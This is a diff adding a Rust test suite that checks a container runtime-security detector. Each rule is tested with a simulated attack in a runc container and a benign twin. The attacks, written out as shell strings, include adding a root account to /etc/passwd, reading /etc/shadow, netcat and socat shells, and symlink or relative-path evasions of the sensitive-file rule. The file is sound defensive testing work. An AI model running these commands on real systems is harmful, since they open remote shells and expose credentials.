@@ -1,0 +1,522 @@
+//! Attack simulation (issue 4): for every default rule, an action inside a real runc container
+//! that must fire it (the counter under that container's exact labels and an alert JSON line,
+//! within 2 s of the event) and a benign twin that must not; the path evasions of the
+//! sensitive-file rule; and host-only actions (a host action is `container_id="host"`, the
+//! container-only rules stay silent for the host).
+//!
+//! Each test starts its own exporter with the shipped rules (about 1 s) so tests run in parallel
+//! without sharing state. The benign twin runs first: events are evaluated in order, so once the
+//! attack's alert is seen the twin's events have been evaluated too. Latencies are printed as
+//! `LATENCY rule [container]: ms` (run with `--nocapture`).
+
+mod common;
+
+use std::time::Duration;
+
+use common::attack::{
+    accept_on, alerts_matching, expect_detection, expect_no_detection, host_address, retry_on_ring_loss,
+    suite_exporter, Action, Detection, Opts, Target,
+};
+use common::{kernel_available, sample, Exporter, SHIPPED_RULES};
+
+/// Runs the benign twin's action, then the attack's, each in a container of its own with
+/// `opts`; asserts the attack is detected (counter under its exact labels and alert line, within
+/// 2 s of the event) and the twin is not. The twin goes first: events are evaluated in order, so
+/// once the attack's alert is seen the twin's events have been evaluated too.
+/// Retried only when events were lost to a full ring meanwhile ([`retry_on_ring_loss`]).
+fn check(rule: &str, priority: &str, attack: &str, benign: &str, opts: Opts) -> Detection {
+    let exporter = suite_exporter();
+    let slug = slug(rule);
+    retry_on_ring_loss(exporter, rule, || {
+        let twin = Target::new(&format!("benign-{slug}"));
+        let mut benign_run = Action::start(&twin, benign, &opts);
+        benign_run.wait_done();
+        let attacker = Target::new(&format!("attack-{slug}"));
+        let mut attack_run = Action::start(&attacker, attack, &opts);
+        let detection = expect_detection(exporter, &mut attack_run, rule, priority);
+        expect_no_detection(exporter, &twin, rule);
+        detection
+    })
+}
+
+/// A rule name as a container name: lower case, dashes, at most 24 characters.
+fn slug(rule: &str) -> String {
+    rule.chars().take(24).map(|c| if c.is_ascii_alphanumeric() { c.to_ascii_lowercase() } else { '-' }).collect()
+}
+
+fn field<'a>(detection: &'a Detection, name: &str) -> &'a serde_json::Value {
+    &detection.alert["output_fields"][name]
+}
+
+macro_rules! kernel_test {
+    ($name:ident) => {
+        if !kernel_available(stringify!($name)) {
+            return;
+        }
+    };
+}
+
+fn writable() -> Opts {
+    Opts { writable: true, ..Opts::default() }
+}
+
+fn with_caps(caps: &[&'static str]) -> Opts {
+    Opts { caps: caps.to_vec(), ..Opts::default() }
+}
+
+// ---- files ----------------------------------------------------------------------------------
+
+#[test]
+fn write_below_etc() {
+    kernel_test!(write_below_etc);
+    let d = check(
+        "Write below etc",
+        "error",
+        "echo 'evil:x:0:0::/:/bin/sh' >> /etc/passwd",
+        "echo note >> /tmp/notes",
+        writable(),
+    );
+    assert_eq!(field(&d, "fd.name"), "/etc/passwd", "{}", d.alert);
+}
+
+#[test]
+fn read_sensitive_file_untrusted() {
+    kernel_test!(read_sensitive_file_untrusted);
+    let d = check("Read sensitive file untrusted", "warning", "cat /etc/shadow", "cat /etc/hostname", Opts::default());
+    assert_eq!(field(&d, "fd.name"), "/etc/shadow", "{}", d.alert);
+}
+
+#[test]
+fn change_permissions_of_sensitive_file() {
+    kernel_test!(change_permissions_of_sensitive_file);
+    let rule = "Change permissions of sensitive file";
+    let d = check(rule, "error", "chmod 0644 /etc/shadow", "chmod 0644 /etc/hostname", writable());
+    assert_eq!(field(&d, "fd.name"), "/etc/shadow", "{}", d.alert);
+}
+
+#[test]
+fn link_to_sensitive_file_symbolic() {
+    kernel_test!(link_to_sensitive_file_symbolic);
+    let d = check(
+        "Link to sensitive file",
+        "warning",
+        "ln -s /etc/shadow /tmp/s",
+        "ln -s /etc/hostname /tmp/s",
+        writable(),
+    );
+    assert_eq!(field(&d, "evt.arg.target"), "/etc/shadow", "{}", d.alert);
+}
+
+#[test]
+fn link_to_sensitive_file_hard() {
+    kernel_test!(link_to_sensitive_file_hard);
+    let d = check("Link to sensitive file", "warning", "ln /etc/shadow /tmp/h", "ln /etc/hostname /tmp/h", writable());
+    assert_eq!(field(&d, "evt.arg.oldpath"), "/etc/shadow", "{}", d.alert);
+}
+
+// ---- processes ------------------------------------------------------------------------------
+
+/// The same shell with a terminal (runc allocates a pty, as `kubectl exec -it` gets one) and,
+/// as the twin, without one.
+#[test]
+fn terminal_shell_in_container() {
+    kernel_test!(terminal_shell_in_container);
+    let exporter = suite_exporter();
+    let rule = "Terminal shell in container";
+    let d = retry_on_ring_loss(exporter, rule, || {
+        let twin = Target::new("benign-shell");
+        let mut benign = Action::start(&twin, "true", &Opts::default());
+        benign.wait_done();
+        let attacker = Target::new("attack-shell");
+        let mut attack = Action::start(&attacker, "true", &Opts { terminal: true, ..Opts::default() });
+        let d = expect_detection(exporter, &mut attack, rule, "notice");
+        expect_no_detection(exporter, &twin, rule);
+        d
+    });
+    assert_eq!(field(&d, "proc.name"), "sh", "{}", d.alert);
+}
+
+/// Bug (kernel side, exporter-ebpf `sys_exit_tracked`): on this kernel a successful
+/// `execveat` exits as syscall 59 (`execve`): `raw_syscalls:sys_exit` shows id=59 and
+/// `syscalls:sys_exit_execveat` never fires (checked with bpftrace). The stashed execveat record
+/// (nr 322) then meets the exit of nr 59, is taken as stale and dropped, uncounted: no execveat
+/// event ever reaches the rules. The rule fired only by luck, when the evaluator ran so late that
+/// the *preceding* `execve` of the helper was decoded from /proc after the memfd exec.
+#[test]
+#[ignore = "product bug: successful execveat exits as execve (nr 59); the kernel program drops the stashed execveat record as stale, so no execveat event reaches the rules"]
+fn fileless_execution_via_memfd() {
+    kernel_test!(fileless_execution_via_memfd);
+    let d =
+        check("Fileless execution via memfd", "critical", "tw-helper memfd", "tw-helper exec-disk", Opts::default());
+    assert!(field(&d, "proc.exepath").as_str().is_some_and(|p| p.starts_with("/memfd:")), "{}", d.alert);
+}
+
+/// A bind shell with busybox nc (-e runs the program on the connection); the twin listens
+/// without running one.
+#[test]
+fn netcat_remote_shell() {
+    kernel_test!(netcat_remote_shell);
+    let rule = "Netcat or socat remote shell";
+    check(
+        rule,
+        "critical",
+        "nc -l -p 40001 -e /bin/sh & sleep 1; kill $!",
+        "nc -l -p 40001 & sleep 1; kill $!",
+        Opts::default(),
+    );
+}
+
+/// A reverse shell whose listener is not there (connection refused): nc exits at once, and the
+/// attempt must still be seen. The twin makes the same refused connection without -e.
+///
+/// Product gap (kernel side): the exec record carries no argv, so `proc.args` comes from
+/// /proc/<pid>/cmdline when the event is evaluated; nc has exited by then, the args are empty and
+/// `proc.args contains "-e"` is false (missed 3 of 3 runs).
+#[test]
+#[ignore = "product gap: exec records carry no argv; a process gone before its exec is evaluated has empty proc.args, so nc -e is missed"]
+fn netcat_reverse_shell_attempt_that_fails_at_once() {
+    kernel_test!(netcat_reverse_shell_attempt_that_fails_at_once);
+    let rule = "Netcat or socat remote shell";
+    check(rule, "critical", "nc 127.0.0.1 9 -e /bin/sh; true", "nc 127.0.0.1 9; true", Opts::default());
+}
+
+/// socat with an EXEC: address (the helper under the name socat: busybox has none).
+#[test]
+fn socat_remote_shell() {
+    kernel_test!(socat_remote_shell);
+    let rule = "Netcat or socat remote shell";
+    check(rule, "critical", "socat TCP-LISTEN:40002 EXEC:/bin/sh", "socat TCP-LISTEN:40002 STDOUT", Opts::default());
+}
+
+/// `apk` is busybox under that name: it fails ("applet not found"), but its exec is the event.
+#[test]
+fn package_management_process_in_container() {
+    kernel_test!(package_management_process_in_container);
+    let rule = "Package management process in container";
+    let d = check(rule, "error", "apk add curl; true", "ls /var/tmp", Opts::default());
+    assert_eq!(field(&d, "proc.name"), "apk", "{}", d.alert);
+}
+
+/// uid 1000 holding CAP_SETUID (ambient): setuid(0) succeeds; the twin sets its own uid.
+#[test]
+fn setuid_to_root_by_non_root() {
+    kernel_test!(setuid_to_root_by_non_root);
+    let opts = Opts { user: Some((1000, 1000)), caps: vec!["CAP_SETUID"], ..Opts::default() };
+    let d = check("Setuid to root by non-root", "critical", "tw-helper setuid 0", "tw-helper setuid 1000", opts);
+    assert_eq!(field(&d, "user.uid"), 1000, "{}", d.alert);
+}
+
+/// PTRACE_ATTACH to a child; the twin's child asks to be traced (PTRACE_TRACEME, as under a
+/// debugger), which attaches to nothing.
+#[test]
+fn ptrace_attach_to_process() {
+    kernel_test!(ptrace_attach_to_process);
+    check(
+        "Ptrace attach to process",
+        "warning",
+        "tw-helper ptrace-attach",
+        "tw-helper ptrace-traceme",
+        Opts::default(),
+    );
+}
+
+// ---- network --------------------------------------------------------------------------------
+
+/// A connection from a container sharing the host's network to `port` on a host address (not
+/// loopback: `outbound` ignores 127.0.0.0/8), where a listener accepts; the twin connects the
+/// same way to an ordinary port.
+fn outbound(rule: &str, priority: &str, port: u16) {
+    let ip = host_address();
+    let benign = std::net::TcpListener::bind("0.0.0.0:0").expect("bind benign port");
+    let benign_port = benign.local_addr().expect("addr").port();
+    drop(benign);
+    let _listeners = (accept_on(port), accept_on(benign_port));
+    let opts = Opts { host_network: true, ..Opts::default() };
+    let (attack, twin) = (format!("echo hi | nc -w 2 {ip} {port}"), format!("echo hi | nc -w 2 {ip} {benign_port}"));
+    let d = check(rule, priority, &attack, &twin, opts);
+    assert_eq!(field(&d, "fd.name"), format!("{ip}:{port}").as_str(), "{}", d.alert);
+}
+
+#[test]
+fn outbound_connection_to_suspicious_port() {
+    kernel_test!(outbound_connection_to_suspicious_port);
+    outbound("Outbound connection to suspicious port", "warning", 4444);
+}
+
+#[test]
+fn outbound_connection_to_crypto_miner_pool_port() {
+    kernel_test!(outbound_connection_to_crypto_miner_pool_port);
+    outbound("Outbound connection to crypto-miner pool port", "critical", 3333);
+}
+
+// ---- kernel, mounts, namespaces -------------------------------------------------------------
+
+/// The twin lists the mounts (same tool, no mount syscall); runc's own setup mounts in both
+/// containers' cgroups must not count either.
+#[test]
+fn mount_in_container() {
+    kernel_test!(mount_in_container);
+    let rule = "Mount in container";
+    let d = check(rule, "warning", "mount -t tmpfs none /mnt && umount /mnt", "mount", with_caps(&["CAP_SYS_ADMIN"]));
+    assert_eq!(field(&d, "proc.name"), "mount", "{}", d.alert);
+}
+
+#[test]
+fn namespace_change_in_container() {
+    kernel_test!(namespace_change_in_container);
+    let rule = "Namespace change in container";
+    let d = check(rule, "notice", "unshare -m true", "ls /proc/self/ns", with_caps(&["CAP_SYS_ADMIN"]));
+    assert_eq!(field(&d, "proc.name"), "unshare", "{}", d.alert);
+}
+
+/// This kernel has no module support (CONFIG_MODULES off): init_module/finit_module have no
+/// tracepoints, so "Kernel module load" cannot fire. The exporter must say so at start (a
+/// warning naming the syscalls), keep running, and an insmod attempt must not produce an alert.
+/// On a kernel with modules the warning must not name them.
+#[test]
+fn kernel_module_load_is_reported_untraceable() {
+    kernel_test!(kernel_module_load_is_reported_untraceable);
+    let traceable = std::path::Path::new("/sys/kernel/tracing/events/syscalls/sys_exit_finit_module").exists();
+    let port = common::free_port();
+    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_exporter"))
+        .args(["--rules-dir", SHIPPED_RULES, "--web.listen-address", &format!("127.0.0.1:{port}")])
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .expect("spawn exporter");
+    let stderr = child.stderr.take().expect("stderr");
+    let (tx, rx) = std::sync::mpsc::channel();
+    std::thread::spawn(move || {
+        for line in std::io::BufRead::lines(std::io::BufReader::new(stderr)).map_while(Result::ok) {
+            if tx.send(line).is_err() {
+                break;
+            }
+        }
+    });
+    let mut log = Vec::new();
+    let deadline = std::time::Instant::now() + Duration::from_secs(20);
+    while !log.iter().any(|l: &String| l.contains("detection started")) {
+        let left = deadline.saturating_duration_since(std::time::Instant::now());
+        match rx.recv_timeout(left) {
+            Ok(line) => log.push(line),
+            Err(_) => {
+                let _ = child.kill();
+                panic!("exporter never logged 'detection started':\n{}", log.join("\n"));
+            }
+        }
+    }
+    let warning = log.iter().find(|l| l.contains("no exit tracepoint")).cloned().unwrap_or_default();
+    let _ = child.kill();
+    let _ = child.wait();
+    if traceable {
+        assert!(!warning.contains("finit_module"), "module syscalls are traceable here: {warning}");
+    } else {
+        assert!(
+            warning.contains("init_module") && warning.contains("finit_module"),
+            "no warning that module loading cannot be seen:\n{}",
+            log.join("\n")
+        );
+        eprintln!("NOTE Kernel module load cannot fire on this kernel: {warning}");
+    }
+
+    // The attempt itself (insmod fails: ENOSYS without module support) is harmless to detection.
+    let exporter = suite_exporter();
+    let rootfs = common::attack::attack_rootfs();
+    std::fs::write(rootfs.path().join("tmp/rootkit.ko"), b"\x7fELF not really a module").expect("write module");
+    let target = Target::new("attack-insmod");
+    let mut insmod = Action::start_in(&target, rootfs, "insmod /tmp/rootkit.ko; true", &Opts::default());
+    insmod.wait_done();
+    if !traceable {
+        std::thread::sleep(Duration::from_millis(500));
+        expect_no_detection(exporter, &target, "Kernel module load");
+    }
+}
+
+// ---- path evasions of the sensitive-file rule -------------------------------------------------
+
+/// `action` reads /etc/shadow under another spelling; the alert must name /etc/shadow.
+fn evasion(name: &str, action: &str, opts: Opts) {
+    let exporter = suite_exporter();
+    let d = retry_on_ring_loss(exporter, name, || {
+        let mut run = Action::start(&Target::new(name), action, &opts);
+        expect_detection(exporter, &mut run, "Read sensitive file untrusted", "warning")
+    });
+    assert_eq!(field(&d, "fd.name"), "/etc/shadow", "{action}: {}", d.alert);
+}
+
+// Why the short-lived-reader evasions below fail today: a relative path or a link is resolved in
+// user space through /proc/<pid>/cwd and /proc/<pid>/root after the event arrives; `cat` has
+// exited by then, so the path is taken lexically (cwd unknown -> /shadow, link not followed ->
+// /tmp/s, hard link not checked -> /tmp/h). The kernel side has to resolve the path at the
+// syscall (issue 4, item 3). The `_by_a_live_reader` twins show the resolution itself works.
+
+#[test]
+#[ignore = "product gap: cat exits before the evaluator reads /proc/<pid>/cwd (fd.name=/shadow)"]
+fn evasion_relative_path_from_etc() {
+    kernel_test!(evasion_relative_path_from_etc);
+    evasion("evasion-cwd", "cd /etc; cat shadow", Opts::default());
+}
+
+#[test]
+fn evasion_dot_dot_and_double_slash() {
+    kernel_test!(evasion_dot_dot_and_double_slash);
+    evasion("evasion-dotdot", "cat /tmp/../etc//shadow", Opts::default());
+}
+
+#[test]
+#[ignore = "product gap: cat exits before the evaluator follows the link in /proc/<pid>/root (fd.name=/tmp/s)"]
+fn evasion_symlink_to_shadow() {
+    kernel_test!(evasion_symlink_to_shadow);
+    evasion("evasion-symlink", "ln -s /etc/shadow /tmp/s && cat /tmp/s", writable());
+}
+
+#[test]
+#[ignore = "product gap: cat exits before the evaluator can stat the link in /proc/<pid>/root (fd.name=/tmp/h)"]
+fn evasion_hard_link_to_shadow() {
+    kernel_test!(evasion_hard_link_to_shadow);
+    evasion("evasion-hardlink", "ln /etc/shadow /tmp/h && cat /tmp/h", writable());
+}
+
+/// The same evasions by a reader that stays (`tail -f`, a second): the resolution itself works
+/// while the process can still be looked at.
+#[test]
+fn evasion_relative_path_from_etc_by_a_live_reader() {
+    kernel_test!(evasion_relative_path_from_etc_by_a_live_reader);
+    evasion("evasion-cwd-live", "cd /etc; tail -f shadow & sleep 1; kill $!", Opts::default());
+}
+
+#[test]
+fn evasion_symlink_to_shadow_by_a_live_reader() {
+    kernel_test!(evasion_symlink_to_shadow_by_a_live_reader);
+    evasion("evasion-symlink-live", "ln -s /etc/shadow /tmp/s && { tail -f /tmp/s & sleep 1; kill $!; }", writable());
+}
+
+#[test]
+fn evasion_hard_link_to_shadow_by_a_live_reader() {
+    kernel_test!(evasion_hard_link_to_shadow_by_a_live_reader);
+    evasion("evasion-hardlink-live", "ln /etc/shadow /tmp/h && { tail -f /tmp/h & sleep 1; kill $!; }", writable());
+}
+
+// ---- host ------------------------------------------------------------------------------------
+
+/// The host reading /etc/shadow (with a reader under a name of its own, so other processes on
+/// the machine cannot be mistaken for it) is counted and alerted as container_id="host".
+#[test]
+fn host_read_of_shadow_is_labelled_host() {
+    kernel_test!(host_read_of_shadow_is_labelled_host);
+    let exporter = suite_exporter();
+    let rule = "Read sensitive file untrusted";
+    let dir = tempfile::tempdir().expect("tempdir");
+    let reader = dir.path().join("tw-host-reader");
+    std::fs::copy("/bin/cat", &reader).expect("copy cat");
+    let status = std::process::Command::new(&reader)
+        .arg("/etc/shadow")
+        .stdout(std::process::Stdio::null())
+        .status()
+        .expect("run reader");
+    assert!(status.success());
+    let labels = [
+        ("rule", rule),
+        ("priority", "warning"),
+        ("container_id", "host"),
+        ("container_name", ""),
+        ("image", ""),
+        ("pod", ""),
+        ("namespace", ""),
+    ];
+    let mut seen = None;
+    let found = common::eventually(Duration::from_secs(3), || {
+        seen = alerts_matching(exporter, rule, "tw-host-reader")
+            .into_iter()
+            .find(|a| a["output_fields"]["proc.name"] == "tw-host-reader");
+        seen.is_some() && sample(&exporter.metrics(), "tracewarden_rule_matches_total", &labels).is_some()
+    });
+    assert!(found, "host read not alerted/counted as host: {seen:?}");
+    let alert = seen.expect("alert");
+    assert_eq!(alert["container_id"], "host", "{alert}");
+    assert_eq!(alert["output_fields"]["fd.name"], "/etc/shadow", "{alert}");
+}
+
+/// Container-only rules stay silent for the host: a mount (in a private mount namespace, so the
+/// machine is not disturbed: that unshare is itself a namespace change), and a package manager
+/// run on the host. `--record` proves the exporter saw those events and decided not to alert.
+#[test]
+fn container_only_rules_do_not_fire_for_the_host() {
+    kernel_test!(container_only_rules_do_not_fire_for_the_host);
+    let dir = tempfile::tempdir().expect("tempdir");
+    let record = dir.path().join("events.jsonl");
+    let exporter = Exporter::start(&["--rules-dir", SHIPPED_RULES, "--record", record.to_str().expect("utf-8")]);
+    let mnt = dir.path().join("mnt");
+    std::fs::create_dir(&mnt).expect("mkdir mnt");
+    let script = format!("mount -t tmpfs tw-host-mount {0} && umount {0}", mnt.display());
+    let status =
+        std::process::Command::new("unshare").args(["-m", "sh", "-c", &script]).status().expect("unshare mount");
+    assert!(status.success(), "host mount failed");
+    let apk = dir.path().join("apk");
+    std::os::unix::fs::symlink("/bin/busybox", &apk).expect("symlink apk");
+    let _ = std::process::Command::new(&apk).arg("add").output().expect("run apk");
+
+    let mnt_text = mnt.display().to_string();
+    let apk_text = apk.display().to_string();
+    let seen = |needle: &str, syscall: &str| {
+        std::fs::read_to_string(&record).unwrap_or_default().lines().any(|l| {
+            let ev: serde_json::Value = serde_json::from_str(l).unwrap_or_default();
+            ev["type"] == syscall && l.contains(needle)
+        })
+    };
+    assert!(
+        common::eventually(Duration::from_secs(5), || seen(&mnt_text, "mount") && seen(&apk_text, "execve")),
+        "the host's mount and exec never reached the evaluator (see {})",
+        record.display()
+    );
+    // Events are evaluated in order and recorded before evaluation; give the alert line a moment.
+    std::thread::sleep(Duration::from_millis(300));
+    for rule in ["Mount in container", "Namespace change in container", "Package management process in container"] {
+        let host: Vec<_> =
+            alerts_matching(&exporter, rule, "\"host\"").into_iter().filter(|a| a["container_id"] == "host").collect();
+        assert!(host.is_empty(), "{rule} fired for the host: {host:?}");
+        assert!(
+            !exporter
+                .metrics()
+                .lines()
+                .any(|l| l.contains(&format!("rule=\"{rule}\"")) && l.contains("container_id=\"host\"")),
+            "{rule} counted for the host"
+        );
+    }
+}
+
+// ---- container identity ------------------------------------------------------------------------
+
+/// A container that reads /etc/shadow and exits at once (runc deletes its state with it), as a
+/// short job or a crash-looping pod does: the match must still carry its name, image and
+/// namespace.
+///
+/// Bug (container resolution: collector.rs `containers_of`, container/ `resolve_all`, not this
+/// branch's to change): when the evaluator reaches the events after runc has deleted the state
+/// (here ~1 run in 8 on an idle machine, most runs under load), the cgroup gets a provisional
+/// identity (the id from the cgroup path, no name/image/namespace) and the match is counted and
+/// alerted under container_name="" image="" namespace="" for good, although the kernel's
+/// new-cgroup notice came while the container ran.
+#[test]
+#[ignore = "product bug (intermittent): a container gone before its events are evaluated is counted under its id with empty name/image/namespace"]
+fn a_container_that_exits_at_once_keeps_its_labels() {
+    kernel_test!(a_container_that_exits_at_once_keeps_its_labels);
+    let exporter = suite_exporter();
+    let rule = "Read sensitive file untrusted";
+    let rootfs = common::attack::attack_rootfs();
+    retry_on_ring_loss(exporter, rule, || {
+        let target = Target::new("short-lived");
+        target.container(&rootfs, "cat /etc/shadow >/dev/null", &Opts::default()).run_to_completion();
+        let labels = target.match_labels(rule, "warning");
+        let counted = common::eventually(Duration::from_secs(3), || {
+            sample(&exporter.metrics(), "tracewarden_rule_matches_total", &labels).is_some()
+        });
+        let series: Vec<String> = exporter
+            .metrics()
+            .lines()
+            .filter(|l| l.contains(target.short_id()) && l.contains("rule_matches_total"))
+            .map(str::to_owned)
+            .collect();
+        assert!(counted, "not counted under {labels:?}; its series: {series:?}");
+    });
+}
